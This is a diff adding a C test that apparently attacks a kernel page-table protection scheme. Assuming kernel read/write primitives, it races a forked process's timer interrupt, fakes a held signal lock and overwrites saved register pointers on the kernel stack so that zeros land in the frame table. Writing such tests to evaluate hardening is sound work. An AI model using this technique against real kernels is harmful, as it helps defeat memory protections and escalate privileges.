@@ -1,0 +1,165 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Attack on where a section stores what it took out of tables: to an array on the
+ * stack of its caller, by a pointer that it was given. The process's own timer
+ * interrupts it ahead of the section, and its handler waits for the lock of the
+ * process's signals, which is made to look held. Meanwhile the pointer in the saved
+ * registers is aimed at the table of frames. Entries that were empty are zeros, by
+ * which the kernel's text is nobody's.
+ */
+#include <signal.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/time.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "attack.h"
+#include "list.h"
+#include "objects.h"
+
+#ifdef __x86_64__
+#define FRAMES		"kpkeys_frames"		/* a pointer to pointers to pages */
+#define FUNCTION	"__kpkeys_unlink_tables"
+#define AHEAD		0x50			/* bytes of it ahead of its section */
+#define TABLES		32			/* that it looks at in one section */
+#define STORED		(TABLES * 8)
+#define CHANGED_PART	0x59
+#define UNMAPPER_CPU	1
+#define SIGHAND_SIZE	1024			/* begins with the lock; has all handlers */
+#define TASK_WORDS	2048
+#define STACK_WORDS	2048
+#define INTERVAL	1000			/* microseconds */
+#define HOLD		3000			/* likewise */
+#define SECONDS		60
+#define FRAME_WORDS	21			/* of struct pt_regs */
+#define FRAME_SI	13
+#define FRAME_IP	16
+#define FRAME_CS	17
+#define KERNEL_CS	0x10
+
+static volatile unsigned long *rounds;
+
+static void on_alarm(int signal)
+{
+	(void)signal;
+}
+
+/* What is mapped behind it keeps the table whose entries are looked at. */
+static void unmap_for_ever(void)
+{
+	struct itimerval interval = { { 0, INTERVAL }, { 0, INTERVAL } };
+	char *base = (char *)user_room(CHANGED_PART);
+	size_t size = TABLES * PMD_SIZE;
+	volatile char *behind;
+
+	stay_on_cpu(UNMAPPER_CPU);
+	signal(SIGALRM, on_alarm);
+	behind = mmap(base + 2 * size, PAGE_SIZE, PROT_READ | PROT_WRITE,
+		      MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
+	*behind = 1;
+	setitimer(ITIMER_REAL, &interval, NULL);
+	for (;; (*rounds)++) {
+		mmap(base, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
+		munmap(base, size);
+	}
+}
+
+/* What the task points to that has the handler of its signal. */
+static uint64_t find_lock(const struct task *task)
+{
+	static uint64_t words[TASK_WORDS];
+	size_t i;
+
+	kread(task->task, words, sizeof(words));
+	for (i = 0; i < TASK_WORDS; i++)
+		if (is_kernel_address(words[i]) &&
+		    find_word(words[i], SIGHAND_SIZE, (uint64_t)on_alarm))
+			return words[i];
+	return 0;
+}
+
+/* Where the table of frames says of text_address() what it is, or 0. */
+static uint64_t find_frame(void)
+{
+	uint64_t frames = ksymbol(FRAMES), pfn = text_phys() / PAGE_SIZE;
+	uint64_t page = frames ? kread64(kread64(frames) + pfn / PAGE_SIZE * sizeof(page)) : 0;
+
+	return page ? page + pfn % PAGE_SIZE : 0;
+}
+
+/* The section stores so much from there on, of one page. */
+static uint64_t target_of(uint64_t frame)
+{
+	uint64_t page = frame & -PAGE_SIZE, at = frame & -8UL;
+
+	return at > page + PAGE_SIZE - STORED ? page + PAGE_SIZE - STORED : at;
+}
+
+static int change_stack(const struct task *task, uint64_t function, uint64_t target)
+{
+	static uint64_t words[STACK_WORDS];
+	int i, n = 0;
+	uint64_t *frame;
+
+	for (i = 0; i < STACK_WORDS * 8; i += PAGE_SIZE)
+		kread(task->stack + i, (char *)words + i, PAGE_SIZE);
+	for (i = 0; i + FRAME_WORDS <= STACK_WORDS; i++) {
+		frame = words + i;
+		if (frame[FRAME_IP] - function >= AHEAD || frame[FRAME_CS] != KERNEL_CS ||
+		    frame[FRAME_SI] - task->stack >= STACK_WORDS * 8)
+			continue;
+		kwrite64(task->stack + (i + FRAME_SI) * 8, target);
+		n++;
+	}
+	return n;
+}
+
+enum outcome unlinked_entries(void)
+{
+	uint64_t frame, lock, function = ksymbol(FUNCTION);
+	time_t end = time(NULL) + SECONDS;
+	int held = 0, changed = 0;
+	char one = 1, zero = 0;
+	uint8_t kind = 1;
+	struct task task;
+	pid_t pid;
+
+	if (!is_protected())
+		return zero_page_text();
+	frame = find_frame();
+	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
+		return skipped("needs a second CPU");
+	if (!frame || !function)
+		return broken("no table of frames, or no such function");
+	rounds = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	stay_on_cpu(0);
+	pid = fork();
+	if (!pid)
+		unmap_for_ever();
+	usleep(100000);
+	if (ktask(pid, &task))
+		return broken("no task");
+	lock = find_lock(&task);
+	if (!lock)
+		return broken("no lock");
+	while (kind && time(NULL) < end) {
+		kwrite(lock, &one, 1);
+		usleep(HOLD);
+		changed += change_stack(&task, function, target_of(frame));
+		kwrite(lock, &zero, 1);
+		held++;
+		usleep(500);
+		kread(frame, &kind, sizeof(kind));
+	}
+	kill(pid, SIGKILL);
+	if (kind)
+		return lost("%lu rounds, held %d times, %d pointers changed", *rounds, held, changed);
+	return zero_page_text();
+}
+#else
+enum outcome unlinked_entries(void)
+{
+	return skipped("x86-64 only");
+}
+#endif
